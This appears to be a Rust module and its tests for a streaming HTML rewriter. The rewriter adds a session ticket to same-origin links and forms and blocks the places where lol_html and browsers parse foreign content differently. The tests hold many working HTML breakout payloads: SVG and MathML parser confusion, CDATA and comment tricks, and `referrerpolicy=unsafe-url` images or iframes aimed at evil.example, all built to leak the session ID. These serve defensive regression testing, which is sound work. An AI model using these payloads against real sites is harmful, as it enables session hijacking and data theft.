//! Streaming HTML rewriting with lol_html: same-origin links and forms of a
//! page get the session ticket, chunk by chunk, never holding the page.
//!
//! The rewriter decides per element, in a stream, but a browser decides
//! per document; so every decision is made in a form no later part of the
//! document can overturn, and where the rewriter cannot be sure, the
//! element gets no ID (fails closed):
//!
//! - `a[href]`, `area[href]`, `iframe[src]`, `frame[src]` and `<meta
//!   http-equiv=refresh>` that stay on this origin get an **absolute** URL
//!   with the ticket in its query; a `<base href>` further down cannot
//!   retarget it. A refresh is parsed as the HTML standard parses it and
//!   rewritten to the canonical `N; url=ABSOLUTE` form.
//! - Forms (`form[action]`, and `formaction` on any submitter) that stay on
//!   this origin get an absolute action that carries the ticket in its
//!   *path* (`/.cloakroom/f/TICKET/…`, see [`super::link::Carry`]); a form
//!   without action gets one. No form ever gets a field with the ID, so a
//!   foreign `formaction`, a nested or unclosed form, or an input's `form=`
//!   attribute has nothing to carry away.
//! - Relative URLs resolve against the first `<base href>` seen; when that
//!   base cannot be read (an unknown character reference), relative URLs
//!   after it get no ID.
//! - What could send the page's address (and so the ID) elsewhere is
//!   neutralised: `<meta name=referrer>` and `<script
//!   type=speculationrules>` are removed, and `referrerpolicy`, `ping` and
//!   `srcdoc` attributes are dropped (the response's own `Referrer-Policy:
//!   same-origin` then governs every request).
//!
//! - lol_html's tokenizer follows the HTML tree builder's namespaces only
//!   approximately, and a browser decides by the tree builder. Where the
//!   two can disagree about what is markup and what is text, the rewriter
//!   gives up the ticket rather than guess:
//!   - `<noscript>` is removed: lol_html reads it as a browser with
//!     scripting on does (text), a browser with scripting off as markup;
//!   - `<mglyph>` and `<malignmark>` are removed: a browser can place them
//!     (and so a `<style>` or `<title>` inside) in MathML, where lol_html
//!     sees HTML and reads the inside as text;
//!   - inside an element named like one of HTML's text-only elements
//!     (`style`, `title`, `textarea`, `script`, …), no element gets the
//!     ticket: in HTML their content is text, so an element lol_html
//!     reports there means it believes itself in SVG or MathML, which it
//!     can after the browser has left (`<svg/>`, a closed parent); what it
//!     reads as a link the browser reads as text, to be reassembled into
//!     a request elsewhere; and such an element that lol_html reads as
//!     SVG or MathML, or any `<title>` after the first `<svg>`/`<math>`,
//!     ends the page (see [`text_only`]);
//!   - from a page's first `<svg>` or `<math>` on, nothing gets the
//!     ticket, to the end of the page: inside and after foreign content the
//!     two parsers can end a text-only element at different places (a
//!     `</style>` hidden in a comment, a CDATA section or an attribute), or
//!     read a CDATA section at an integration point (`foreignObject`,
//!     `mi`, `annotation-xml`) differently, and what follows is not the
//!     same document to both. Outside reviews leaked the ticket through
//!     each narrower rule tried first.
//!
//! - Text holding a `<` that a browser may read as markup ends the page
//!   (see [`hidden_markup`]): a CDATA section, and after the first `<svg>`
//!   or `<math>` a text-only element's content; and an
//!   `annotation-xml` with two `encoding`s is removed (see
//!   [`annotation_xml`]).
//!
//! Scripts, styles and comments are not HTML elements to lol_html, so
//! links inside them are never touched; what a page's own scripts do with
//! `location` is beyond any rewriter (see README, "Security model").

use lol_html::html_content::{TextChunk, TextType};
use lol_html::send::{Element, HtmlRewriter, Settings};
use lol_html::{AsciiCompatibleEncoding, MemorySettings};
use url::Url;

use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering};
use std::sync::Arc;

use super::link::{
    attribute_text, attribute_url, refresh_parts, rewrite_attribute, rewrite_url, Carry, Origin,
    Ticket,
};

/// Most memory lol_html may use for one page (it needs only what one tag
/// holds; a page that needs more is passed on unrewritten from there).
const MEMORY_LIMIT: usize = 4 * 1024 * 1024;

const HTML_NAMESPACE: &str = "http://www.w3.org/1999/xhtml";

/// HTML's raw-text and escapable-raw-text elements (and `plaintext`):
/// their content is text in HTML, markup in SVG or MathML.
const TEXT_ONLY: &str =
    "style, script, title, textarea, xmp, iframe, noembed, noframes, plaintext, noscript, mglyph, malignmark";

/// What relative URLs resolve against, as far as the page has told: unset
/// while the page has no `<base href>` (the document's own URL), then the
/// first one, `None` if it could not be read.
type Base = std::sync::OnceLock<Option<Url>>;

type HandlerResult = Result<(), Box<dyn std::error::Error + Send + Sync>>;

/// What every handler of one page shares (lol_html's handlers are
/// separate closures, one per selector, which it calls without looking at
/// tag names the selector already matched).
struct Page {
    origin: Origin,
    ticket: Ticket,
    base: Base,
    /// How many ambiguous text-only elements (see the module's notes) are
    /// open around the current element: no ticket is given inside one.
    ambiguous: AtomicUsize,
    /// An <svg> or <math> has begun: the rest of the page gets no ticket.
    diverged: AtomicBool,
}

impl Page {
    fn inside_ambiguous(&self) -> bool {
        self.ambiguous.load(Ordering::Relaxed) > 0 || self.diverged.load(Ordering::Relaxed)
    }

    /// Where relative URLs resolve; `None` when the page's base is unknown.
    fn resolve_against(&self) -> Option<&Url> {
        match self.base.get() {
            None => Some(&self.origin.document),
            Some(base) => base.as_ref(),
        }
    }

    /// `text` (a URL as the browser reads it) rewritten, if it may carry the ticket.
    fn rewrite(&self, text: &str, carry: Carry) -> Option<String> {
        if self.inside_ambiguous() {
            return None;
        }
        rewrite_url(
            text,
            self.resolve_against(),
            &self.origin,
            &self.ticket,
            carry,
        )
    }

    /// `attr`, if present, replaced by its rewritten URL when it stays on this origin.
    fn set_url(&self, el: &mut Element<'_, '_>, attr: &str, carry: Carry) -> HandlerResult {
        if self.inside_ambiguous() {
            return Ok(());
        }
        let Some(raw) = el.get_attribute(attr) else {
            return Ok(());
        };
        let resolve_against = self.resolve_against();
        if let Some(new) =
            rewrite_attribute(&raw, resolve_against, &self.origin, &self.ticket, carry)
        {
            el.set_attribute(attr, &new)?;
        }
        Ok(())
    }
}

type Handler = fn(&Arc<Page>, &mut Element<'_, '_>) -> HandlerResult;

/// What the rewriter does, by selector, in this order: anything that could
/// send the page's address elsewhere goes first, and an element itself (an
/// iframe's src) is judged before it counts as open around what follows.
const HANDLERS: [(&str, Handler); 12] = [
    ("[ping], [referrerpolicy]", |_, el| {
        el.remove_attribute("ping");
        el.remove_attribute("referrerpolicy");
        Ok(())
    }),
    ("base[href]", base),
    ("a[href], area[href]", |page, el| {
        page.set_url(el, "href", Carry::Query)
    }),
    ("frame[src]", |page, el| {
        page.set_url(el, "src", Carry::Query)
    }),
    ("iframe", |page, el| {
        // A srcdoc document's links would send this page's address as
        // their referrer; the frame falls back to `src`.
        el.remove_attribute("srcdoc");
        page.set_url(el, "src", Carry::Query)
    }),
    ("form", form),
    ("meta", meta),
    ("script[type]", script),
    ("[formaction]", |page, el| {
        page.set_url(el, "formaction", Carry::FormPath)
    }),
    (TEXT_ONLY, text_only),
    ("svg, math", |page, _| {
        page.diverged.store(true, Ordering::Relaxed);
        Ok(())
    }),
    ("annotation-xml", annotation_xml),
];

/// Every selector the rewriter matches, for the benchmark that measures
/// what lol_html costs with them before any handler does anything.
pub fn selectors() -> impl Iterator<Item = &'static str> {
    HANDLERS.iter().map(|(selector, _)| *selector)
}

/// A rewriter for one page, writing its output to `sink`.
pub fn rewriter<'h, O: lol_html::OutputSink + Send>(
    origin: Origin,
    ticket: Ticket,
    encoding: &'static encoding_rs::Encoding,
    sink: O,
) -> Option<HtmlRewriter<'h, O>> {
    let encoding = AsciiCompatibleEncoding::new(encoding)?;
    let page = Arc::new(Page {
        origin,
        ticket,
        base: Base::new(),
        ambiguous: AtomicUsize::new(0),
        diverged: AtomicBool::new(false),
    });
    let mut settings = Settings::new_send();
    for (selector, f) in HANDLERS {
        let page = page.clone();
        settings = settings
            .append_element_content_handler(lol_html::element!(selector, move |el| f(&page, el)));
    }
    let settings = settings
        // Every text of the page, not only what is inside an <svg> or
        // <math> element: lol_html reads CDATA sections where it believes
        // itself in SVG or MathML, which can outlast the element (after a
        // self-closed `<svg/>`, review 15). This costs about 40 % more on a
        // link-dense page (many short texts).
        .append_document_content_handler(lol_html::doc_text!({
            let page = page.clone();
            move |text| hidden_markup(&page, text)
        }))
        .with_encoding(encoding)
        .with_adjust_charset_on_meta_tag(true)
        .with_memory_settings(
            MemorySettings::new()
                .with_max_allowed_memory_usage(MEMORY_LIMIT)
                .with_graceful_bail_out_on_memory_limit_exceeded(true),
        );
    Some(HtmlRewriter::new(settings, sink))
}

/// Text that a browser may read as markup ends the page there (fails
/// closed), when it holds a `<`: a CDATA section wherever lol_html reads
/// one, and, from the page's first `<svg>` or `<math>` on, the content of
/// a text-only element (`style`, `script`, `textarea`, …). A browser reads
/// a CDATA section as text only where it agrees with lol_html that this
/// is SVG or MathML; its preload scanner never does (it ends `<![CDATA[` at
/// the first `>` and fetches the tags it then sees, with their
/// `referrerpolicy` or a `<meta name=referrer>`: review 14 had Chromium
/// send the page's address, ticket and all, to another origin). And
/// lol_html's idea of where SVG and MathML begin and end is not the
/// browser's: after a self-closed `<svg/>` it still reads CDATA (review
/// 15); after `<svg><foreignObject><div></foreignObject></svg></div>
/// </foreignObject>` it reads HTML where the browser is back in SVG, and a
/// `<style>` it reads as text holds a real `<img>` to the browser (review
/// 16). Writing each `<` as `]]>&lt;<![CDATA[` was tried first: the same
/// text where both agree, but where the browser reads raw text it moves
/// the end of that text to a later `</style>`, perhaps inside what lol_html
/// reads as an attribute. Text without `<` hides no tag.
fn hidden_markup(page: &Page, text: &mut TextChunk<'_>) -> HandlerResult {
    let suspect = match text.text_type() {
        TextType::Data => false,
        TextType::CDataSection => true,
        TextType::PlainText | TextType::RCData | TextType::RawText | TextType::ScriptData => {
            page.diverged.load(Ordering::Relaxed)
        }
    };
    if suspect && text.as_str().contains('<') {
        return Err(
            "text a browser may read as markup holds a '<' (URL mode ends the page there)".into(),
        );
    }
    Ok(())
}

/// An `annotation-xml` with more than one `encoding` is removed, content
/// and all: a browser reads the first (HTML §13.2.5.1, duplicates are
/// dropped), lol_html another, and `encoding=text/html` makes it an HTML
/// integration point, where a `<style>` holds text. Review 15 had such a
/// `<style>` hide an `<img referrerpolicy=unsafe-url>` that Chromium, in
/// MathML, fetched as a real element.
fn annotation_xml(_: &Arc<Page>, el: &mut Element<'_, '_>) -> HandlerResult {
    let encodings = el
        .attributes()
        .iter()
        .filter(|attr| attr.name() == "encoding")
        .count();
    if encodings > 1 {
        el.remove();
    }
    Ok(())
}

/// Only the first `<base href>` counts (HTML §4.2.3).
fn base(page: &Arc<Page>, el: &mut Element<'_, '_>) -> HandlerResult {
    if page.base.get().is_none() && !page.inside_ambiguous() {
        let href = el.get_attribute("href").unwrap_or_default();
        let base = attribute_url(&href).and_then(|h| page.origin.document.join(h.trim()).ok());
        let _ = page.base.set(base);
    }
    Ok(())
}

/// A form's action; a form without action submits to the page itself.
fn form(page: &Arc<Page>, el: &mut Element<'_, '_>) -> HandlerResult {
    let action = el.get_attribute("action").unwrap_or_default();
    let action = if action.trim().is_empty() {
        Some(page.origin.document.as_str().to_owned())
    } else {
        attribute_url(&action)
    };
    if let Some(new) = action.and_then(|a| page.rewrite(&a, Carry::FormPath)) {
        el.set_attribute("action", &attribute_text(&new))?;
    }
    Ok(())
}

/// Speculation rules are JSON, not script: their prefetches and
/// prerenders may set a referrer policy of their own.
fn script(_: &Arc<Page>, el: &mut Element<'_, '_>) -> HandlerResult {
    let speculation = el
        .get_attribute("type")
        .and_then(|t| attribute_url(&t))
        .is_some_and(|t| t.trim().eq_ignore_ascii_case("speculationrules"));
    if speculation {
        el.remove();
    }
    Ok(())
}

/// An element whose content is text in HTML (see the module's notes).
fn text_only(page: &Arc<Page>, el: &mut Element<'_, '_>) -> HandlerResult {
    if el.removed() {
        return Ok(());
    }
    let tag = el.tag_name();
    if matches!(tag.as_str(), "noscript" | "mglyph" | "malignmark") {
        el.remove();
        return Ok(());
    }
    // One lol_html reads as SVG or MathML ends the page before it is sent
    // (fails closed). Its content is markup to lol_html; the browser may
    // have left SVG where lol_html has not (`<svg/>`, an HTML end tag that
    // closes the svg), and Chromium's preload scanner reads it as HTML's
    // text even inside SVG: review 17 hid an `<img referrerpolicy=unsafe-url>`
    // or a `<meta name=referrer>` behind a `<!--` or in an attribute there,
    // which the scanner, or the browser's parser, then saw after `</style>`.
    // lol_html reports an SVG `<title>` as HTML (it is an integration
    // point) while reading its content as markup: after the first `<svg>`
    // or `<math>`, any `<title>` ends the page.
    let svg_title = tag == "title" && page.diverged.load(Ordering::Relaxed);
    if el.namespace_uri() != HTML_NAMESPACE || svg_title {
        return Err(format!(
            "<{tag}> read as SVG or MathML may be text to the browser (URL mode ends the page there)"
        )
        .into());
    }
    if el.can_have_content() {
        page.ambiguous.fetch_add(1, Ordering::Relaxed);
        let page = page.clone();
        el.on_end_tag(Box::new(move |_| {
            let _ = page
                .ambiguous
                .fetch_update(Ordering::Relaxed, Ordering::Relaxed, |n| n.checked_sub(1));
            Ok(())
        }))?;
    }
    Ok(())
}

/// `<meta http-equiv=refresh>` is rewritten like a link; `<meta
/// name=referrer>` (which would override the response's policy) is removed,
/// and so is a `name` the rewriter cannot read.
fn meta(page: &Arc<Page>, el: &mut Element<'_, '_>) -> HandlerResult {
    if let Some(name) = el.get_attribute("name") {
        let referrer =
            attribute_url(&name).is_none_or(|n| n.trim().eq_ignore_ascii_case("referrer"));
        if referrer {
            el.remove();
            return Ok(());
        }
    }
    let refresh = el
        .get_attribute("http-equiv")
        .and_then(|v| attribute_url(&v))
        .is_some_and(|v| v.trim().eq_ignore_ascii_case("refresh"));
    let Some(content) = el.get_attribute("content").filter(|_| refresh) else {
        return Ok(());
    };
    let Some(decoded) = attribute_url(&content) else {
        return Ok(());
    };
    if let Some((time, Some(url))) = refresh_parts(&decoded) {
        if let Some(new) = page.rewrite(url, Carry::Query) {
            el.set_attribute("content", &attribute_text(&format!("{time}; url={new}")))?;
        }
    }
    Ok(())
}

/// Rewrites a whole page given as `chunks` (tests and benchmarks).
pub fn rewrite_chunks(
    chunks: &[&[u8]],
    origin: &Origin,
    ticket: &Ticket,
    encoding: &'static encoding_rs::Encoding,
) -> Vec<u8> {
    let mut out = Vec::new();
    {
        let Some(mut r) = rewriter(origin.clone(), ticket.clone(), encoding, |c: &[u8]| {
            out.extend_from_slice(c)
        }) else {
            return chunks.concat();
        };
        // After an error the rewriter is spent (lol_html panics if it is
        // used again): the output ends where it stopped.
        if chunks.iter().all(|chunk| r.write(chunk).is_ok()) {
            let _ = r.end();
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    fn origin() -> Origin {
        Origin::new("http", "127.0.0.1:8000", "/dir/page.html").unwrap()
    }

    fn ticket() -> Ticket {
        Ticket {
            name: "SID".into(),
            id: "abc".into(),
        }
    }

    fn whole(html: &str) -> String {
        String::from_utf8(rewrite_chunks(
            &[html.as_bytes()],
            &origin(),
            &ticket(),
            encoding_rs::UTF_8,
        ))
        .unwrap()
    }

    /// Same output fed whole, byte by byte, and in pseudo-random splits.
    fn all_ways(html: &str) -> String {
        let expected = whole(html);
        let bytes = html.as_bytes();
        let singles: Vec<&[u8]> = bytes.chunks(1).collect();
        let by_byte = rewrite_chunks(&singles, &origin(), &ticket(), encoding_rs::UTF_8);
        assert_eq!(
            String::from_utf8(by_byte).unwrap(),
            expected,
            "byte by byte differs"
        );
        let mut seed = 0x9e37_79b9_u32;
        for _ in 0..20 {
            let mut chunks = Vec::new();
            let mut rest = bytes;
            while !rest.is_empty() {
                seed ^= seed << 13;
                seed ^= seed >> 17;
                seed ^= seed << 5;
                let n = (seed as usize % 7 + 1).min(rest.len());
                chunks.push(&rest[..n]);
                rest = &rest[n..];
            }
            let out = rewrite_chunks(&chunks, &origin(), &ticket(), encoding_rs::UTF_8);
            assert_eq!(
                String::from_utf8(out).unwrap(),
                expected,
                "random split differs"
            );
        }
        expected
    }

    /// Where lol_html and a browser's tree builder disagree about SVG and
    /// MathML (an outside review with Chromium found each of these
    /// leaking the ticket into a foreign request), nothing gets it.
    #[test]
    fn where_the_parser_may_misjudge_foreign_content_no_ticket_is_given() {
        let breakouts = [
            "<svg/><style>",
            "<div><svg></div><style>",
            "<svg><svg><p><style>",
            "<table><tr><td><svg></td><td><style>",
            "<svg><desc><div></desc><style>",
            "<math><mi><svg></mi><textarea>",
            "<svg/><title>",
            "<svg/><textarea>",
            "<svg/><xmp>",
            "<svg/><noembed>",
        ];
        for opening in breakouts {
            let close = opening.rsplit('<').next().unwrap_or_default();
            let close = format!("</{close}");
            let page = format!(
                "{opening}<a title=\"{close}<img src='http://evil.example/?\" href=\"/x\" id=\"'>\">x</a>{close}<p>after</p>"
            );
            let out = all_ways(&page);
            assert!(!out.contains("SID=abc"), "{opening}: {out}");
        }
        // MathML text integration points a browser keeps in MathML.
        for page in [
            "<math><mi><mglyph><style><img src=\"http://evil.example/g\" referrerpolicy=\"unsafe-url\"></style></mglyph></mi></math>",
            "<math><mi><malignmark><title><meta name=\"referrer\" content=\"unsafe-url\"></title></malignmark></mi></math>",
        ] {
            let out = all_ways(page);
            assert!(!out.contains("unsafe-url"), "{out}");
        }
        // Markup to a browser with scripting off.
        let out = all_ways("<noscript><img src=//evil.example/n referrerpolicy=unsafe-url><a href=/x ping=//evil.example/p>x</a></noscript><a href=/y>y</a>");
        assert!(!out.contains("noscript") && !out.contains("evil"), "{out}");
        assert!(
            out.contains("O/y?SID=abc") || out.contains("/y?SID=abc"),
            "{out}"
        );
    }

    #[test]
    fn links_before_the_first_svg_or_math_keep_the_ticket_and_none_after() {
        for foreign in ["<svg>", "<SVG>", "<math>"] {
            let out = all_ways(&format!(
                "<a href=\"/before\">b</a>{foreign}<a href=\"/inside\"><text>t</text></a></svg></math>\
                 <a href=\"/after\">a</a>"
            ));
            assert!(out.contains("/before?SID=abc"), "{out}");
            assert!(!out.contains("/inside?SID"), "{out}");
            assert!(!out.contains("/after?SID"), "{out}");
        }
        // Without any SVG or MathML, text-only elements cost nothing.
        let out =
            all_ways("<style>p{}</style><title>t</title><script>1</script><a href=\"/x\">x</a>");
        assert!(out.contains("/x?SID=abc"), "{out}");
    }

    /// The text-only element ends where lol_html's SVG reading puts its end
    /// tag, later than the browser's: a `</style>` the browser honours is
    /// hidden from lol_html in a comment, CDATA or an attribute (an outside
    /// review leaked the ticket this way through each).
    /// A CDATA section at an integration point is one to the browser (its
    /// element is still SVG or MathML) and a bogus comment to lol_html.
    #[test]
    fn cdata_at_an_integration_point_gets_no_ticket_through() {
        for opening in [
            "<svg><foreignObject>",
            "<svg><desc>",
            "<math><mi>",
            "<math><mtext>",
            "<math><annotation-xml encoding=\"text/html\">",
        ] {
            let page = format!("{opening}<![CDATA[><b title=\"]]><img src='http://evil.example/?\"><a href=\"/x\">'>");
            let out = all_ways(&page);
            assert!(!out.contains("SID=abc"), "{page}: {out}");
        }
    }

    /// A preload scanner ends `<![CDATA[` at the first `>` and reads what
    /// follows as tags (review 14: an `<img referrerpolicy=unsafe-url>`
    /// there was fetched with the page's address as its referrer); where
    /// lol_html's SVG outlasts the browser's, so does the parser (review
    /// 15). A section with a `<` ends the page; one without is kept.
    #[test]
    fn a_cdata_section_with_a_tag_in_it_ends_the_page() {
        for page in [
            "<p>before<svg><![CDATA[><img referrerpolicy=unsafe-url src=http://evil.example/>]]></svg>",
            "<p>before<math><![CDATA[><meta name=referrer content=unsafe-url>]]></math><img src=http://evil.example/>",
            "<p>before<svg><g><text><![CDATA[a<b]]></text></g></svg><a href=http://evil.example/>",
            // lol_html still reads CDATA after a self-closed <svg/> or a
            // closed parent, where a browser is back in HTML.
            "<p>before<svg/><![CDATA[><img referrerpolicy=unsafe-url src=http://evil.example/>]]>",
            "<p>before<div><svg></div><style><![CDATA[</style>]]><b title=\"</style><img src=http://evil.example/>\">",
        ] {
            let bytes = page.as_bytes();
            let singles: Vec<&[u8]> = bytes.chunks(1).collect();
            for chunks in [vec![bytes], singles, bytes.chunks(7).collect()] {
                let out = String::from_utf8(rewrite_chunks(&chunks, &origin(), &ticket(), encoding_rs::UTF_8)).unwrap();
                assert!(out.starts_with("<p>before"), "{page}: {out}");
                assert!(!out.contains("evil"), "{page}: {out}");
            }
        }
        // lol_html back in HTML where the browser is in SVG again (review
        // 16): what it reads as a style's text is a real <img> there.
        for page in [
            "<p>before<svg><foreignObject><div></foreignObject></svg></div></foreignObject><style><img referrerpolicy=unsafe-url src=http://evil.example/></style>",
            "<p>before<math><mi><div></mi></math></div></mi><textarea><img src=http://evil.example/></textarea>",
            "<p>before<svg></svg><script>if (a<b) x('http://evil.example/')</script>",
        ] {
            let out = whole(page);
            assert!(out.starts_with("<p>before"), "{page}: {out}");
            assert!(!out.contains("evil"), "{page}: {out}");
        }
        let script = "<script>if (a<b) go('/x')</script><svg><rect/></svg><script>go()</script>";
        assert_eq!(all_ways(script), script);
        let kept = "<svg><text><![CDATA[.a > .b { fill: red }]]></text></svg><a href=\"/x\">x</a>";
        assert_eq!(all_ways(kept), kept);
        // In HTML, `<![CDATA[` opens a comment that ends at the first `>`.
        let html = "<p><![CDATA[ x ]]><b>y</b>";
        assert_eq!(all_ways(html), html);
    }

    /// A browser takes the first of two `encoding`s (not an HTML
    /// integration point here, so `<img>` inside `<style>` breaks out of
    /// MathML as a real element); lol_html another (review 15).
    #[test]
    fn an_annotation_xml_with_two_encodings_is_removed() {
        let page = "<math><annotation-xml encoding=x encoding=text/html><style>\
                    <img referrerpolicy=unsafe-url src=http://evil.example/></style></annotation-xml></math><p>after";
        assert!(!whole(page).contains("evil"));
        let two = "<math><annotation-xml encoding=x encoding=text/html><b>x</b></annotation-xml></math><p>after";
        assert_eq!(all_ways(two), "<math></math><p>after");
        let one = "<math><annotation-xml encoding=text/html><b>x</b></annotation-xml></math>";
        assert_eq!(all_ways(one), one);
    }

    /// Review 17: an element named like a text-only one that lol_html
    /// reads as SVG or MathML holds markup to lol_html and text to the
    /// browser, where lol_html's SVG outlasts the browser's (a self-closed
    /// `<svg/>`, an HTML end tag that closes it, a character reference in
    /// `annotation-xml`'s `encoding`), and to Chromium's preload scanner
    /// even inside real SVG. The page ends before its start tag.
    #[test]
    fn a_text_only_element_read_as_svg_or_mathml_ends_the_page() {
        let payload =
            "<!--</NAME><iframe referrerpolicy=unsafe-url src=http://evil.example/></iframe>-->";
        for name in [
            "style",
            "title",
            "textarea",
            "xmp",
            "iframe",
            "noembed",
            "noframes",
            "script",
            "plaintext",
        ] {
            for opening in [
                "<svg/>",
                "<math/>",
                "<b><svg></b>",
                "<div><svg></div>",
                "<svg>",
                "<math>",
                "<math><annotation-xml encoding=&#116;ext/html>",
            ] {
                let page = format!(
                    "<p>before{opening}<{name}>{}",
                    payload.replace("NAME", name)
                );
                let out = all_ways(&page);
                assert!(out.starts_with("<p>before"), "{page}: {out}");
                assert!(!out.contains("evil"), "{page}: {out}");
                assert!(!out.contains(&format!("<{name}>")), "{page}: {out}");
            }
        }
        // Read as HTML, it is kept (and judged by its text, above).
        let html = "<svg><rect/></svg><style>.a{}</style><p>x";
        assert_eq!(all_ways(html), html);
        let before = "<title>t</title><style>.a{}</style><svg><rect/></svg>";
        assert_eq!(all_ways(before), before);
    }

    #[test]
    fn after_svg_a_text_only_element_ends_the_tickets_for_the_page() {
        for close in ["style", "title", "textarea", "xmp", "noembed", "script"] {
            for hide in [
                format!("<!--</{close}><img src='http://evil.example/?-->"),
                format!("<![CDATA[</{close}><img src='http://evil.example/?]]>"),
                format!("<b title=\"</{close}><img src='http://evil.example/?\">"),
            ] {
                for opening in ["<div><svg></div>", "<svg/>", "<math><mi><svg></mi>"] {
                    let page = format!("{opening}<{close}>{hide}</{close}><a href=/x>'>");
                    let out = all_ways(&page);
                    assert!(!out.contains("SID=abc"), "{page}: {out}");
                }
            }
        }
    }

    #[test]
    fn a_table_of_tricky_documents() {
        let cases: &[(&str, &str)] = &[
            ("<a href=\"/x\">x</a>", "<a href=\"O/x?SID=abc\">x</a>"),
            ("<A HREF=/x>x</A>", "<A HREF=\"O/x?SID=abc\">x</A>"),
            ("<a href='rel?a=1&amp;b=2#f'>", "<a href=\"O/dir/rel?a=1&amp;b=2&amp;SID=abc#f\">"),
            ("<a href=\"/x&#35;frag\">", "<a href=\"O/x?SID=abc#frag\">"),
            ("<area href=\"/map\">", "<area href=\"O/map?SID=abc\">"),
            ("<iframe src=\"/frame\"></iframe>", "<iframe src=\"O/frame?SID=abc\"></iframe>"),
            (
                "<iframe srcdoc=\"<a href=//evil.example>x</a>\" src=\"/f\"></iframe>",
                "<iframe src=\"O/f?SID=abc\"></iframe>",
            ),
            ("<frame src=\"/f\">", "<frame src=\"O/f?SID=abc\">"),
            (
                "<meta http-equiv=\"Refresh\" content=\"5; url=/next\">",
                "<meta http-equiv=\"Refresh\" content=\"5; url=O/next?SID=abc\">",
            ),
            (
                "<meta http-equiv=refresh content=\"0;url=http://evil.example/\">",
                "<meta http-equiv=refresh content=\"0;url=http://evil.example/\">",
            ),
            (
                "<meta http-equiv=refresh content=\"0; http://evil.example/x?url=/y\">",
                "<meta http-equiv=refresh content=\"0; http://evil.example/x?url=/y\">",
            ),
            ("<meta name=referrer content=unsafe-url><p>", "<p>"),
            ("<meta name=\"Referrer \" content=origin><p>", "<p>"),
            ("<meta name=\"r&eacute;ferrer\" content=x><p>", "<p>"),
            ("<meta name=viewport content=x>", "<meta name=viewport content=x>"),
            (
                "<script type=\"speculationrules\">{\"prefetch\":[]}</script><p>",
                "<p>",
            ),
            ("<script type=module>x()</script>", "<script type=module>x()</script>"),
            (
                "<a href=\"//evil.example/\" ping=\"//evil.example/p\" referrerpolicy=unsafe-url>",
                "<a href=\"//evil.example/\">",
            ),
            ("<img src=\"//evil.example/i\" referrerpolicy=\"unsafe-url\">", "<img src=\"//evil.example/i\">"),
            ("<a href=\"mailto:x@y\">", "<a href=\"mailto:x@y\">"),
            ("<a href=\"javascript:void(0)\">", "<a href=\"javascript:void(0)\">"),
            ("<a href=\"data:text/html,x\">", "<a href=\"data:text/html,x\">"),
            ("<a href=\"#top\">", "<a href=\"#top\">"),
            ("<a href=\"//evil.example/\">", "<a href=\"//evil.example/\">"),
            ("<a href=\"/\\evil.example/\">", "<a href=\"/\\evil.example/\">"),
            ("<a href=\"&#47;&#47evil.example/\">", "<a href=\"&#47;&#47evil.example/\">"),
            ("<a href=\"HTTP://EVIL.EXAMPLE/\">", "<a href=\"HTTP://EVIL.EXAMPLE/\">"),
            (
                "<a href=\"http://127.0.0.1.evil.example:8000/\">",
                "<a href=\"http://127.0.0.1.evil.example:8000/\">",
            ),
            ("<a href=\"http://127.0.0.1:8000/abs\">", "<a href=\"O/abs?SID=abc\">"),
            ("<a name=\"anchor\">", "<a name=\"anchor\">"),
            (
                "<script>var u = '<a href=\"/in-script\">';</script>",
                "<script>var u = '<a href=\"/in-script\">';</script>",
            ),
            ("<!-- <a href=\"/in-comment\"> -->", "<!-- <a href=\"/in-comment\"> -->"),
            (
                "<style>a[href=\"/x\"]{}</style><textarea><a href=\"/t\"></textarea>",
                "<style>a[href=\"/x\"]{}</style><textarea><a href=\"/t\"></textarea>",
            ),
            (
                "<form action=\"/post\" method=post><input name=a></form>",
                "<form action=\"O/.cloakroom/f/abc/post\" method=post><input name=a></form>",
            ),
            (
                "<form method=get><input name=q></form>",
                "<form method=get action=\"O/.cloakroom/f/abc/dir/page.html\"><input name=q></form>",
            ),
            (
                "<form action=\"/s\"><button formaction=\"https://evil.example/\">go</button></form>",
                "<form action=\"O/.cloakroom/f/abc/s\"><button formaction=\"https://evil.example/\">go</button></form>",
            ),
            (
                "<form action=/s><input type=submit formaction=\"/t?x=1\"></form>",
                "<form action=\"O/.cloakroom/f/abc/s\"><input type=submit formaction=\"O/.cloakroom/f/abc/t?x=1\"></form>",
            ),
            (
                "<form action=\"https://evil.example/steal\"><form action=/own><input name=q></form>",
                "<form action=\"https://evil.example/steal\"><form action=\"O/.cloakroom/f/abc/own\"><input name=q></form>",
            ),
            (
                "<base href=\"http://cdn.example/\"><a href=\"rel\">r</a><a href=\"http://127.0.0.1:8000/own\">o</a>",
                "<base href=\"http://cdn.example/\"><a href=\"rel\">r</a><a href=\"O/own?SID=abc\">o</a>",
            ),
            (
                "<base href=\"/other/\"><a href=\"rel\">r</a>",
                "<base href=\"/other/\"><a href=\"O/other/rel?SID=abc\">r</a>",
            ),
            (
                "<a href=\"rel\">r</a><base href=\"http://evil.example/\">",
                "<a href=\"O/dir/rel?SID=abc\">r</a><base href=\"http://evil.example/\">",
            ),
            (
                "<base href=\"http://evil&unknown;.example/\"><a href=\"rel\">r</a><a href=\"/abs\">a</a>",
                "<base href=\"http://evil&unknown;.example/\"><a href=\"rel\">r</a><a href=\"/abs\">a</a>",
            ),
            ("<a href=\"&#106;avascript:alert(1)\">", "<a href=\"&#106;avascript:alert(1)\">"),
            ("<a href=\"/caf\u{e9}\">", "<a href=\"O/caf%C3%A9?SID=abc\">"),
            ("<a href=\"/p?SID=stolen\">", "<a href=\"O/p?SID=abc\">"),
        ];
        for (input, want) in cases {
            let want = want.replace("O/", "http://127.0.0.1:8000/");
            assert_eq!(all_ways(input), want, "input: {input}");
        }
    }

    #[test]
    fn the_charset_of_the_page_is_respected() {
        // Latin-1 bytes around a link: the page's bytes are kept as they are.
        let page = b"<p>caf\xe9</p><a href=\"/x\">\xe9</a>";
        let out = rewrite_chunks(&[page], &origin(), &ticket(), encoding_rs::WINDOWS_1252);
        assert_eq!(
            out,
            b"<p>caf\xe9</p><a href=\"http://127.0.0.1:8000/x?SID=abc\">\xe9</a>".to_vec()
        );
        // A <meta charset> switches the decoder mid-stream.
        let page = b"<meta charset=\"windows-1252\"><a href=\"/\xe9\">x</a>";
        let out = rewrite_chunks(&[page], &origin(), &ticket(), encoding_rs::UTF_8);
        assert_eq!(
            out,
            b"<meta charset=\"windows-1252\"><a href=\"http://127.0.0.1:8000/%C3%A9?SID=abc\">x</a>".to_vec()
        );
    }

    #[test]
    fn utf16_cannot_be_rewritten() {
